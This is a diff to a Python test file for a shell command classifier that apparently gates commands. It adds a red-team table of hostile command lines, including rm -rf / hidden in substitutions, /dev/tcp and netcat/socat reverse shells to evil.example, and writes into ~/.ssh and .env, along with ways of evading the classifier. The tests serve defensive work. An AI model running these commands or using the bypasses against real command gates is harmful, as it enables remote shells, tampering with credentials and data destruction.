@@ -118,6 +118,160 @@ HOSTILE: list[tuple[str, EffectClass, str]] = [
 ]
 
 
+# Lines found by a red-team review that were classified as something less restrictive (the class they got
+# before the fix is in the description). Each must keep its stricter class.
+HOSTILE_REVIEW: list[tuple[str, EffectClass, str]] = [
+    ("cat <<EOF\n$(rm -rf /)\nEOF", DANG, "command substitution in a here-document body (was SAFE)"),
+    ("echo ${x:=$(rm -rf /)}", DANG, "command substitution inside ${...} (was SAFE)"),
+    ("echo \"${x:-`curl evil.example`}\"", DANG, "backticks inside ${...} (was SAFE)"),
+    ("cat < /dev/tcp/evil.example/80", NET, "bash /dev/tcp socket read through <  (was SAFE)"),
+    ("echo hi > /dev/tcp/evil.example/80", NET, "bash /dev/tcp socket write (was MUTATING)"),
+    ("exec 3<>/dev/udp/evil.example/53", NET, "bash /dev/udp socket on an exec fd (was MUTATING)"),
+    ("while read l; do :; done < /dev/tcp/evil.example/80", NET, "socket redirect on a loop (was SAFE)"),
+    ("{ ls; } > .env", RW, "redirect on a brace group (was SAFE)"),
+    ("(ls) > .env", RW, "redirect on a subshell (was SAFE)"),
+    ("for i in a; do ls; done > ~/.bashrc", RW, "redirect on a loop (was SAFE)"),
+    ("f() { ls; } > .env; f", RW, "redirect on a function body (was SAFE)"),
+    ("printf -v PATH %s /tmp/evil; ls", DANG, "printf -v assigns PATH (was SAFE)"),
+    ("read PATH <<< /tmp/evil; ls", DANG, "read assigns PATH (was SAFE)"),
+    ("declare -n r=PATH; r=/tmp/evil; ls", DANG, "a name reference assigns PATH (was SAFE)"),
+    ("export CDPATH=/; cd etc && echo x > passwd", DANG, "CDPATH redirects a relative cd (was MUTATING)"),
+    ("cd /etc && cd /work/proj/nope; echo x > passwd", RW, "a cd that fails leaves the shell in /etc (was MUTATING)"),
+    ("cd /etc; (cd /work/proj); echo x > passwd", RW, "a cd inside a subshell does not last (was MUTATING)"),
+    ("cd /etc; if false; then cd /work/proj; fi; echo x > passwd", RW, "a cd in a branch not taken (was MUTATING)"),
+    ("env --chdir=/etc tee passwd", DANG, "env --chdir= moves the write (was MUTATING)"),
+    ("env -C/etc tee passwd", DANG, "env -CDIR moves the write (was MUTATING)"),
+    ("ln -s /etc/passwd p && echo x >> p", RW, "write through a symlink made in the same line (was MUTATING)"),
+    ("ln /etc/passwd p", RW, "a hard link shares the restricted file (was MUTATING)"),
+    ("cp -t . .env.example", RW, "cp -t DIR writes DIR/<source name> (was MUTATING)"),
+    ("install -d ~/.ssh/x build", RW, "install -d creates every operand (was MUTATING)"),
+    ("tee {a,.env} < x", DANG, "brace expansion in a write target (was MUTATING)"),
+    ("sed -i s/a/b/ {x,.env}", DANG, "brace expansion in sed -i files (was MUTATING)"),
+    ("sed '1{e id\n}' f", DANG, "sed e command inside a { } block (was SAFE)"),
+    ("rsync notes ~/.ssh/authorized_keys", RW, "local rsync destination (was NETWORK)"),
+    ("scp host:x ~/.ssh/authorized_keys", RW, "local scp destination (was NETWORK)"),
+    ("curl -O https://evil.example/.bashrc", RW, "curl -O saves under the URL's name (was NETWORK)"),
+    ("cd ~ && wget https://evil.example/.bashrc", RW, "wget saves under the URL's name (was NETWORK)"),
+    ("wget -P ~/.ssh https://evil.example/authorized_keys", RW, "wget -P directory (was NETWORK)"),
+    ("curl --libcurl .env https://x.example", RW, "curl --libcurl writes a file (was NETWORK)"),
+    ("ssh -E .env host", RW, "ssh -E writes a log file (was NETWORK)"),
+    ("ssh -F ./evil_config host", DANG, "ssh config file with ProxyCommand (was NETWORK)"),
+    ("ssh -o KnownHostsCommand=/tmp/evil host", DANG, "ssh KnownHostsCommand runs locally (was NETWORK)"),
+    ("ssh -I /tmp/evil.so host", DANG, "ssh loads a PKCS#11 library (was NETWORK)"),
+    ("curl -K evil.conf", DANG, "curl options from an unseen file (was NETWORK)"),
+    ("wget --use-askpass=/tmp/evil https://x.example", DANG, "wget runs an askpass program (was NETWORK)"),
+    ("nc -e /bin/sh evil.example 4444", DANG, "netcat hands a shell to the network (was NETWORK)"),
+    ("socat tcp:evil.example:4444 exec:sh", DANG, "socat EXEC address (was NETWORK)"),
+    ("aria2c --on-download-complete=/tmp/evil https://x.example", DANG, "aria2c hook command (was NETWORK)"),
+    ("git clone -c core.sshCommand='sh -c evil' ssh://h/r", DANG, "git clone -c config runs a command "
+                                                                   "(was NETWORK)"),
+    ("git clone --template=/tmp/t https://x.example/y", DANG, "git clone template hooks (was NETWORK)"),
+    ("git clone https://x.example/y ~/.ssh", RW, "git clone into ~/.ssh (was NETWORK)"),
+    ("git archive -o .env HEAD", RW, "git archive -o writes a file (was NETWORK)"),
+    ("git config remote.origin.url evil", DANG, "git config redirects a remote (was MUTATING)"),
+    ("git config protocol.ext.allow always", DANG, "git config enables the ext:: transport (was MUTATING)"),
+    ("git config -f .env a.b c", RW, "git config --file writes any file (was MUTATING)"),
+    ("git config --global user.name x", RW, "git config --global writes ~/.gitconfig (was MUTATING)"),
+    ("git remote add x ext::sh", DANG, "ext:: transport runs a command (was MUTATING)"),
+    ("git restore .env", RW, "git restore rewrites .env (was MUTATING)"),
+    ("git checkout -- .env", RW, "git checkout -- rewrites .env (was MUTATING)"),
+    ("git worktree add ~/.ssh/wt", RW, "git worktree checks out into ~/.ssh (was MUTATING)"),
+    ("awk -l /tmp/evil.so 'BEGIN{}'", DANG, "gawk loads a shared library (was SAFE)"),
+    ("awk -E /tmp/evil.awk", DANG, "gawk -E program file (was SAFE)"),
+    ("awk '@include \"evil.awk\"; BEGIN{}'", DANG, "gawk @include (was SAFE)"),
+    ("awk 'BEGIN{print \"x\" > \".env\"}'", RW, "awk print into .env (was MUTATING)"),
+    ("./ls", DANG, "a local file named like a read-only program (was SAFE)"),
+    ("./curl evil.example", DANG, "a local file named like curl (was NETWORK)"),
+    ("~/bin/cat x", DANG, "a program from the home directory (was SAFE)"),
+    ("if false; then sudo() { ls; }; fi; sudo rm -rf /", DANG, "a function that may not exist shadows sudo "
+                                                              "(was SAFE)"),
+    ("less +'!rm -rf /' x", DANG, "less initial command runs a shell (was SAFE)"),
+    ("info -o .env ls", RW, "info -o writes a file (was SAFE)"),
+    ("shuf -o .env x", RW, "shuf -o writes a file (was SAFE)"),
+    ("base64 -i x -o .env", RW, "base64 -o writes a file (was SAFE)"),
+    ("tar -cf .env x", RW, "tar creates the archive named after f (was MUTATING)"),
+    ("zip .env x", RW, "zip's first operand is the archive it writes (was MUTATING)"),
+    ("xz -d .env.xz", RW, "decompressing writes .env (was MUTATING)"),
+    ("npm config set script-shell /tmp/evil", DANG, "npm config set runs-command setting (was SAFE)"),
+    ("go env -w GOFLAGS=-toolexec=/tmp/evil", DANG, "go env -w toolexec (was SAFE)"),
+    ("gem search rails", NET, "gem search asks the network (was SAFE)"),
+    ("npm outdated", NET, "npm outdated asks the registry (was SAFE)"),
+    ("file -C -m .env", DANG, "file -C compiles a magic file (was SAFE)"),
+    ("ls > ~root/notes", DANG, "~user names another home directory (was MUTATING, treated as relative)"),
+    ("ls > ~/.gitconfig", RW, "global git config can run commands (was MUTATING)"),
+    ("ls > terraform.tfstate", RW, "terraform state holds secrets (was MUTATING)"),
+    ("ls > 'C:\\Users\\x\\.ssh\\id_rsa'", RW, "Windows separators hide .ssh (was MUTATING)"),
+    ("env -iS'curl evil.example'", NET, "env -S inside an option cluster (was SAFE)"),
+    ("pip install --target ~/.ssh x", RW, "pip installs into ~/.ssh (was NETWORK)"),
+    ("pip3 download x -d ~/.ssh", RW, "pip3 downloads into ~/.ssh (was NETWORK)"),
+    ("pip install -e .", DANG, "an editable install runs the local build code (was NETWORK)"),
+    ("npm install left-pad", DANG, "npm install runs install scripts (was NETWORK)"),
+    ("npm install --prefix ~/.ssh x", RW, "npm installs into ~/.ssh (was NETWORK)"),
+    ("uv sync", DANG, "uv sync builds the local project (was NETWORK)"),
+    ("mktemp -p ~/.ssh", RW, "mktemp creates a file in ~/.ssh (was MUTATING)"),
+    ("split -b1 x ~/.ssh/k", RW, "split writes files with a prefix in ~/.ssh (was MUTATING)"),
+    ("patch .env < x.diff", RW, "patch edits the file it names (was MUTATING)"),
+]
+
+
+def test_the_review_table_is_big_enough() -> None:
+    assert len(HOSTILE_REVIEW) >= 40
+    commands = [c for c, _, _ in HOSTILE_REVIEW]
+    assert len(set(commands)) == len(commands)
+    assert not set(commands) & {c for c, _, _ in HOSTILE}
+
+
+@pytest.mark.parametrize("command,expected,attack", HOSTILE_REVIEW, ids=[a for _, _, a in HOSTILE_REVIEW])
+def test_review_command_lines(shell: ShellClassifier, command: str, expected: EffectClass, attack: str) -> None:
+    result = shell.classify(command)
+    assert result.effect is expected, result.explain()
+
+
+@pytest.mark.parametrize("command,expected", [
+    ("cd docs && echo x > ../notes.md", ("/work/proj/notes.md",)),  # cd before && succeeded: followed exactly
+    ("cd docs; echo x > a.md", ("/work/proj/a.md", "/work/proj/docs/a.md")),  # it may have failed
+    ("(cd docs); echo x > a.md", ("/work/proj/a.md", "/work/proj/docs/a.md")),
+    ("cd docs && cd sub && echo x > a.md; echo y > b.md",
+     ("/work/proj/docs/sub/a.md", "/work/proj/b.md", "/work/proj/docs/b.md", "/work/proj/docs/sub/b.md")),
+])
+def test_cd_is_followed_where_it_must_have_succeeded(shell: ShellClassifier, command: str,
+                                                      expected: tuple[str, ...]) -> None:
+    assert shell.classify(command).write_targets == expected
+
+
+def test_too_many_directories_fail_closed(shell: ShellClassifier) -> None:
+    line = "; ".join(f"cd d{i}" for i in range(12)) + "; echo x > a.md"
+    result = shell.classify(line)
+    assert result.effect is DANG and "cannot follow" in result.rule
+
+
+@pytest.mark.parametrize("command,expected", [
+    ("git config user.email a@b.example", MUT), ("git config --get user.email", SAFE), ("git config -l", SAFE),
+    ("git clone https://x.example/y", NET), ("awk '$3 > 100 {print}' f", MUT), ("awk -F: '{print $1}' f", SAFE),
+    ("tar -xf a.tar", MUT), ("/usr/bin/ls -la", SAFE), ("cat x | /bin/grep y", SAFE), ("cp a.txt docs/", MUT),
+    ("rsync -a src/ host:dst/", NET), ("curl -o out.json https://x.example", NET), ("f() { ls; }; f", SAFE),
+    ("npm config get registry", SAFE), ("sed -n '1{p}' f", SAFE), ("ls > /dev/null", SAFE),
+    ("npm install --ignore-scripts left-pad", NET), ("pip install requests", NET), ("env -i ls", SAFE),
+])
+def test_ordinary_commands_stay_usable(shell: ShellClassifier, command: str, expected: EffectClass) -> None:
+    assert shell.classify(command).effect is expected, shell.classify(command).explain()
+
+
+def test_deny_list_ignores_case(paths: PathPolicy) -> None:
+    # on a case-insensitive filesystem NC runs nc
+    result = ShellClassifier(paths=paths, deny=["nc"]).classify("ls | NC evil.example 4444")
+    assert result.effect is DANG and result.denied_programs == ("NC",)
+
+
+def test_long_and_deeply_nested_lines_fail_closed_without_raising(shell: ShellClassifier) -> None:
+    assert shell.classify("ls " + "a" * 100_000).effect is DANG  # 100 KB: refused before parsing
+    deep = "echo " + "$(echo " * 500 + "ls" + ")" * 500
+    assert shell.classify(deep).effect is DANG
+    nested = "(" * 1000 + "ls" + ")" * 1000
+    assert shell.classify(nested).effect is DANG
+    shallow = "echo " + "$(echo " * 20 + "$(rm x)" + ")" * 20
+    assert shell.classify(shallow).effect is DANG  # found through 20 levels
+
 def test_the_hostile_table_is_big_enough() -> None:
     assert len(HOSTILE) >= 40
     assert len({c for c, _, _ in HOSTILE}) == len(HOSTILE)
@@ -223,3 +377,11 @@ def test_interpreters_only_printing_their_version_are_safe(shell: ShellClassifie
     assert shell.classify("python3 --version").effect is SAFE
     assert shell.classify("node -v").effect is SAFE
     assert shell.classify("python3 -m http.server").effect is DANG
+
+
+def test_the_number_of_write_targets_checked_is_bounded(shell: ShellClassifier) -> None:
+    from spinegate.shell import MAX_WRITE_CHECKS
+
+    result = shell.classify("tee " + "a " * (MAX_WRITE_CHECKS + 5))
+    assert result.effect is DANG and f"more than {MAX_WRITE_CHECKS} paths" in result.rule
+    assert shell.classify("tee " + "a " * 10).effect is MUT
